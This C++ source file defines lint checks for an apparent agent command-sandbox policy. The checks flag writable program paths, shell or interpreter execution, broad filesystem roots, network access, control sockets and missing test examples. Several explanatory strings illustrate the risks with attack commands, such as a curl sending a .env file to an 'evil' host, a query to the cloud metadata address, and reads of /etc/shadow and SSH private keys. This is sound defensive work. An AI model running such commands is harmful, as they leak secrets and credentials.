// Owns the rules about what an entry is given beside its arguments: paths, programs, network, environment, and about what
// the entry itself is held to by examples.
#include <algorithm>
#include <array>

#include "inline_text.h"
#include "lint_node.h"
#include "lint_tables.h"
#include "pattern.h"
#include "refusal.h"
#include "value.h"

namespace safe_exec {
namespace {

bool is_one_of(std::string_view text, std::span<const Name> names) {
  return std::find(names.begin(), names.end(), text) != names.end();
}

std::string base_name(std::string_view path) { return std::string(path.substr(path.rfind('/') + 1)); }

// An inherited member is looked at once, at the command; below, only what the node sets itself.
template <class T>
const T* own(const LintNode& in, const std::optional<T>& set, const T* effective) {
  if (in.top()) return effective;
  return set ? &*set : nullptr;
}

void path_under_writable(const LintNode& in) {
  if (!in.top()) return;
  for (const std::string& path : in.command.paths) {
    for (const std::string& root : in.facts.written) {
      if (is_within(path, root)) in.report(in.node().place, path + " lies beneath " + root + ", which this policy lets be written");
    }
  }
}

void write_and_exec(const LintNode& in) {
  const std::vector<Root>* exec = own(in, in.node().sandbox.exec, in.settings.exec);
  if (exec == nullptr) return;
  for (const Root& root : *exec) {
    const std::string path = in.facts.expand(root);
    for (const std::string& written : in.facts.written) {
      if (path.empty() || (!is_within(path, written) && !is_within(written, path))) continue;
      in.report(root.place, path + " may be executed, and " + written + " be written");
      break;
    }
  }
}

void binary_not_root_owned(const LintNode& in) {
  if (!in.top()) return;
  if (in.command.trust == Trust::caller) in.report(in.node().place, "\"trust\": \"caller\" lets the caller's own programs be run");
  static constexpr Name kOthers[]{"/home", "/tmp", "/var/tmp", "/dev/shm", "/run/user", "/srv"};
  for (const std::string& path : in.command.paths) {
    for (const std::string_view place : kOthers) {
      if (is_within(path, place)) in.report(in.node().place, path + " lies in " + std::string(place));
    }
  }
  if (const std::optional<std::string> why = in.facts.distrust(in.command)) in.report(in.node().place, *why);
}

void env_channel(const LintNode& in) {
  const auto look = [&](const std::vector<EnvRule>& rules) {
    for (const EnvRule& rule : rules) {
      if (rule.caller && is_channel_variable(rule.name)) in.report(rule.place, "the caller chooses " + rule.name);
    }
  };
  if (in.top() && in.command.defaults) look(in.command.defaults->env);
  look(in.node().env);
}

struct ExampleCount {
  std::size_t allow = 0, deny = 0;
};

void count_examples(const Node& node, ExampleCount& count) {
  count.allow += node.examples.allow.size() + node.examples.ask.size();
  count.deny += node.examples.deny.size();
  for (const Node& sub : node.subcommands) count_examples(sub, count);
}

void no_examples(const LintNode& in) {
  ExampleCount count;
  count_examples(in.node(), count);
  if (in.top() && count.allow == 0) in.report(in.node().place, "no example must be allowed or must ask");
}

void no_deny_examples(const LintNode& in) {
  ExampleCount count;
  count_examples(in.node(), count);
  if (in.top() && count.deny == 0) in.report(in.node().place, "no example must be denied");
}

void option_not_covered(const LintNode& in) {
  for (const Option& option : in.node().options) {
    const std::pair<std::string, std::string> key{in.nodes[0]->name, in.facts.policy.pointer(option.place)};
    if (in.facts.uncovered.contains(key)) in.report(option.place, "no example exercises " + option.name);
  }
}

void no_description(const LintNode& in) {
  if (in.top() && in.node().description.empty()) in.report(in.node().place, "it has no description");
}

constexpr Name kWideToRead[]{"/", "/etc", "/home", "/root", "/var", "/proc", "/sys", "/dev", "/run", "/boot", "/mnt", "/media"};
constexpr Name kSystem[]{"/usr", "/bin", "/sbin", "/lib", "/lib64", "/etc", "/boot", "/proc", "/sys", "/dev", "/var/lib"};

void look_at_root(const LintNode& in, const Root& root, bool writes, Place place) {
  const std::string path = in.facts.expand(root);
  if (path.empty()) return;
  const bool system = writes && std::any_of(std::begin(kSystem), std::end(kSystem), [&](std::string_view top) { return is_within(path, top); });
  const bool top_level = writes && path.find('/', 1) == std::string::npos && root.variable.empty();
  if (system || top_level || is_one_of(path, kWideToRead)) in.report(place, path + " may be " + (writes ? "written" : "read"));
}

void look_at_type(const LintNode& in, const Type& type) {
  if (type.kind == Type::Kind::list && type.of) return look_at_type(in, *type.of);
  if (type.kind != Type::Kind::path || type.path.access == PathAccess::stat) return;
  for (const Root& root : type.path.within) look_at_root(in, root, type.path.access != PathAccess::read, root.place);
}

void wide_root(const LintNode& in) {
  for (const Option& option : in.node().options) {
    for (const TypeRef& type : option.values) look_at_type(in, *type);
  }
  if (in.node().operands) {
    for (const Slot& slot : *in.node().operands) {
      for (const TypeRef& type : slot.types) look_at_type(in, *type);
    }
  }
  const auto look = [&](const std::vector<Root>* roots, bool writes) {
    for (std::size_t i = 0; roots != nullptr && i < roots->size(); ++i) look_at_root(in, (*roots)[i], writes, (*roots)[i].place);
  };
  look(own(in, in.node().sandbox.read, in.settings.read), false);
  look(own(in, in.node().sandbox.write, in.settings.write), true);
}

constexpr Name kPrograms[]{"/", "/usr", "/bin", "/usr/bin", "/sbin", "/usr/sbin", "/usr/local/bin", "/usr/local"};

void exec_self_or_shell(const LintNode& in) {
  if (in.top() ? in.settings.exec_self : in.node().sandbox.exec_self) {
    in.report(in.node().place, in.nodes[0]->name + " may execute itself again, with arguments that no rule decides");
  }
  const std::vector<Root>* exec = own(in, in.node().sandbox.exec, in.settings.exec);
  if (exec == nullptr) return;
  for (const Root& root : *exec) {
    const std::string path = in.facts.expand(root);
    const std::string name = base_name(path);
    if (is_one_of(path, kPrograms)) in.report(root.place, "every program in " + path + " may be executed");
    else if (!path.empty() && (is_interpreter(name) || is_wrapper(name))) in.report(root.place, path + " may be executed, with arguments that no rule decides");
  }
}

// Where anything is executed the loader is, and it maps what may be read. Of a list that holds whole directories exec-self-or-shell
// says enough.
void exec_beside_read(const LintNode& in) {
  const std::vector<Root>* exec = in.settings.exec;
  const std::vector<Root>* read = in.settings.read;
  const bool here = in.top() || in.node().sandbox.exec || in.node().sandbox.read;
  if (!here || exec == nullptr || exec->empty() || read == nullptr) return;
  if (std::any_of(exec->begin(), exec->end(), [&](const Root& root) { return is_one_of(in.facts.expand(root), kPrograms); })) return;
  for (const Root& root : *read) {
    const std::string path = in.facts.expand(root);
    if (is_one_of(path, kPrograms)) in.report(root.place, "every program in " + path + " may be read, and so run by ld.so, beside a list of what may be executed");
  }
}

const Network* own_network(const LintNode& in) { return own(in, in.node().sandbox.network, &in.settings.network); }

void network_host(const LintNode& in) {
  const Network* network = own_network(in);
  if (network != nullptr && network->kind == Network::Kind::host) in.report(in.node().place, "the whole network of the host");
}

void network_with_read(const LintNode& in) {
  const Network* network = own_network(in);
  if (network == nullptr || network->kind == Network::Kind::none || network->kind == Network::Kind::loopback ||
      !in.facts.policy.deny_paths.empty()) {
    return;
  }
  bool reads = in.settings.read != nullptr && !in.settings.read->empty();
  for (const Node* node : in.nodes) {
    for (std::size_t i = 0; node->operands && i < node->operands->size(); ++i) {
      for (const TypeRef& type : (*node->operands)[i].types) reads = reads || type->kind == Type::Kind::path;
    }
  }
  if (reads) in.report(in.node().place, "it reads files and reaches the network, and the policy has no deny_paths");
}

void unix_socket_control(const LintNode& in) {
  const std::vector<Root>* sockets = own(in, in.node().sandbox.unix_sockets, in.settings.unix_sockets);
  for (std::size_t i = 0; sockets != nullptr && i < sockets->size(); ++i) {
    const std::string path = in.facts.expand((*sockets)[i]);
    if (is_control_socket(path)) in.report((*sockets)[i].place, path + " may be connected to");
  }
}

bool is_path(const Type& type, bool (*asked)(const PathType&)) {
  if (type.kind == Type::Kind::list && type.of) return is_path(*type.of, asked);
  return type.kind == Type::Kind::path && asked(type.path);
}

// Whether an option or an operand of the node names such a path.
bool takes_path(const Node& node, bool (*asked)(const PathType&)) {
  const auto any = [asked](const std::vector<TypeRef>& types) {
    return std::any_of(types.begin(), types.end(), [asked](const TypeRef& type) { return is_path(*type, asked); });
  };
  return std::any_of(node.options.begin(), node.options.end(), [&](const Option& option) { return any(option.values); }) ||
         (node.operands && std::any_of(node.operands->begin(), node.operands->end(), [&](const Slot& slot) { return any(slot.types); }));
}

bool is_directory_grant(const PathType& path) { return path.access != PathAccess::stat && path.kind != PathKind::file; }

// Landlock asks about no connection to a socket that has a path: who sees the directory connects to what is in it.
void unix_socket_beside_directory(const LintNode& in) {
  const std::vector<Root>* sockets = in.settings.unix_sockets;
  const Sandbox& here = in.node().sandbox;
  if (sockets == nullptr || sockets->empty()) return;
  if (!in.top() && !here.unix_sockets && !here.read && !here.write && !takes_path(in.node(), is_directory_grant)) return;
  const auto some = [](const std::vector<Root>* roots) { return roots != nullptr && !roots->empty(); };
  const bool directories = some(in.settings.read) || some(in.settings.write) ||
                           std::any_of(in.nodes.begin(), in.nodes.end(), [](const Node* node) { return takes_path(*node, is_directory_grant); });
  if (directories) in.report(in.node().place, in.facts.expand(sockets->front()) + " may be connected to, and with it every socket in a directory that is granted");
}

bool is_written(const PathType& path) { return path.access != PathAccess::stat && path.access != PathAccess::read; }

void repeatable_write(const LintNode& in) {
  if (!in.settings.repeatable) return;
  const bool said_here = in.node().repeatable.has_value();  // then also of what the nodes above take
  const auto first = said_here ? in.nodes.begin() : in.nodes.end() - 1;
  if (std::any_of(first, in.nodes.end(), [](const Node* node) { return takes_path(*node, is_written); })) {
    in.report(in.node().place, "it is repeatable, and writes what its arguments name");
  }
}

void proc_all(const LintNode& in) {
  const std::optional<Proc>& set = in.node().sandbox.proc;
  const Proc proc = in.top() ? in.settings.proc : set.value_or(Proc::none);
  if (proc == Proc::all) in.report(in.node().place, "/proc shows every process");
}

void report_layers(const LintNode& in, bool essential) {
  const std::map<Layer, Requirement>& layers = in.top() ? in.settings.layers : in.node().sandbox.layers;
  for (const auto& [layer, requirement] : layers) {
    const bool counts = layer == Layer::landlock || default_requirement(layer) == Requirement::require;
    if (requirement != Requirement::off || counts != essential) continue;
    in.report(in.node().place, "the layer " + std::string(layer_name(layer)) + " is switched off");
  }
}

void layer_off(const LintNode& in) { report_layers(in, true); }
void layer_reduced(const LintNode& in) { report_layers(in, false); }

void exec_by_path(const LintNode& in) {
  if (in.top() && in.command.exec_by == ExecBy::path) in.report(in.node().place, "the program is executed by its path, not by what was checked");
}

constexpr Severity kError = Severity::error;
constexpr Severity kWarning = Severity::warning;
constexpr Severity kNote = Severity::note;

constexpr LintCheck kChecks[]{
    {{"path-under-writable", "A program lies where the policy lets a command write.",
      "cp evil ${workspace}/bin/tool, then tool: the entry now runs the agent's own program.", kError}, path_under_writable},
    {{"write-and-exec", "What may be written may also be executed.",
      "a compiler writes ./build/x and the same policy runs it: the sandbox of the one that runs it is the only boundary.", kWarning}, write_and_exec},
    {{"binary-not-root-owned", "A program belongs to, or can be replaced by, somebody else than root.",
      "whoever owns ~/.local/bin/tool decides what the entry runs.", kWarning}, binary_not_root_owned},
    {{"env-channel", "The caller chooses a variable through which programs take arguments or code.",
      "GIT_SSH_COMMAND, PAGER, LESSOPEN, NODE_OPTIONS, LD_PRELOAD: arguments that no rule sees", kWarning}, env_channel},
    {{"no-examples", "Nothing shows what an entry allows.", "an entry that refuses everything, or allows too much, is noticed by nobody.", kWarning}, no_examples},
    {{"no-deny-examples", "Nothing shows what an entry refuses.", "the next change may allow what this one refuses, and every test still passes.", kWarning}, no_deny_examples},
    {{"option-not-covered", "An option that no example exercises.", "nobody has seen what it is rebuilt into.", kNote}, option_not_covered},
    {{"no-description", "Agents are not told what the command is for.", "an agent that does not know reaches for another way.", kNote}, no_description},
    {{"wide-root", "A path type or the sandbox takes in a whole part of the system.",
      "cat /etc/shadow, /proc/1/environ, /home/other/.ssh/id_ed25519; writing /etc is as good as root", kWarning}, wide_root},
    {{"exec-self-or-shell", "The command may execute a shell, an interpreter, itself, or a whole directory of programs.",
      "any hole in the program's own arguments becomes sh -c ...", kWarning}, exec_self_or_shell},
    {{"exec-beside-read", "A list of programs that may be executed, and whole directories of others that may be read.",
      "the loader runs what it can read: ld-linux.so /usr/bin/perl, whatever the list says", kWarning}, exec_beside_read},
    {{"network-host", "The command reaches every host and port that this one reaches.",
      "curl http://169.254.169.254/ (credentials of the cloud), services on the loopback, exfiltration", kWarning}, network_host},
    {{"network-with-read", "One command reads files and reaches the network.",
      "curl -d @.env https://evil: secrets leave in one step; deny_paths is what keeps them.", kWarning}, network_with_read},
    {{"unix-socket-control", "The command reaches a service that acts with more rights than it has.",
      "docker.sock is root on the host; the system bus starts units", kWarning}, unix_socket_control},
    {{"unix-socket-beside-directory", "The command is granted a socket, and directories that may hold others.",
      "one socket is granted by name; that of an ssh-agent or a database which is made in such a directory while the command runs is in reach, too", kNote}, unix_socket_beside_directory},
    {{"repeatable-write", "What run --diagnose may do twice writes files that its arguments name.",
      "a line is appended twice, or the second run meets what the first one left, and fails for another reason.", kWarning}, repeatable_write},
    {{"proc-all", "The command sees every process, their arguments and, where it may, their environment.",
      "tokens in the command lines of others", kNote}, proc_all},
    {{"layer-off", "A layer that confines is switched off.", "what that layer refuses is open, on every host.", kWarning}, layer_off},
    {{"layer-reduced", "A namespace, or the walk around deny_paths, is switched off.",
      "the host's users, processes or protected files can be seen where they were not granted by name.", kNote}, layer_reduced},
    {{"exec-by-path", "The program is looked up again when it is executed.", "between the check and the execution another file may stand there.", kNote}, exec_by_path},
};

}  // namespace

std::span<const LintCheck> grant_checks() { return kChecks; }

}  // namespace safe_exec
